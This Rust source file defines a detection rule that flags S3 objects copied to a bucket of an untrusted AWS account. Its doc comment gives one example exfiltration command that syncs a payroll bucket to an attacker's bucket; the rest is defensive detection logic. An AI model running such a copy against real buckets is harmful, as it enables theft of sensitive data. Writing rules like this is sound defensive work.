use std::time::Duration;

use patrol_core::{
    Aggregate, ApiCall, Context, Event, Findings, Metadata, Pattern, Result, Rule, Severity, rule,
};
use serde_json::Value;

use crate::shared::{TrustedAccounts, UNNAMED, items, report, request};

rule! {
    /// Reports objects being copied to a bucket of an account that is not trusted.
    ///
    /// Needs a trail that logs S3 data events.
    ///
    /// # Why
    /// Copying between buckets needs no network access of the attacker's own, and is as fast as S3.
    ///
    /// # Example
    /// `aws s3 sync s3://payroll s3://attacker-bucket`.
    ///
    /// # Respond
    /// Disable the credentials, and find out what else they copied: each object is an event.
    pub struct ObjectsCopiedToStranger = "objectsCopiedToStranger" {
        /// Accounts whose buckets objects may be copied to, comma separated.
        trusted_accounts: TrustedAccounts,
    }
}

impl Rule for ObjectsCopiedToStranger {
    type Detail = ApiCall;
    const META: Metadata = Metadata::new(Severity::High)
        .attack(["T1537"])
        .groups(["data-events", "exposure"])
        .off_by_default()
        .since("0.1.0")
        .reports_omitted();

    fn pattern() -> Pattern {
        Pattern::api_call("s3.amazonaws.com", ["CopyObject"]).succeeded()
    }

    fn aggregate() -> Aggregate {
        Aggregate::throttle(Duration::from_secs(3600))
    }

    async fn check(&self, event: &Event<ApiCall>, _: &Context) -> Result<Findings> {
        let call = &event.detail;
        // The record lists both buckets with their owners; the first one is where the copy goes.
        let listed = call.other.get("resources").unwrap_or(&Value::Null);
        let mut buckets = items(listed).filter(|one| one["type"] == "AWS::S3::Bucket");
        let owner = buckets
            .next()
            .and_then(|bucket| bucket["accountId"].as_str());
        let own = call.user_identity.account_id.as_deref();
        let Some(owner) = owner
            .filter(|owner| Some(*owner) != own && !self.trusted_accounts.trusts(event, owner))
        else {
            return Ok(Findings::none());
        };
        let request = request(call);
        let bucket = request["bucketName"].as_str().unwrap_or(UNNAMED);
        let from = request["x-amz-copy-source"].as_str().unwrap_or(UNNAMED);
        let did = format!("copied {from} to the bucket {bucket} of account {owner}");
        let finding = report(
            event,
            "Objects copied to an untrusted account",
            &did,
            bucket,
        );
        Ok(finding.detail("from", from).detail("owner", owner).into())
    }
}
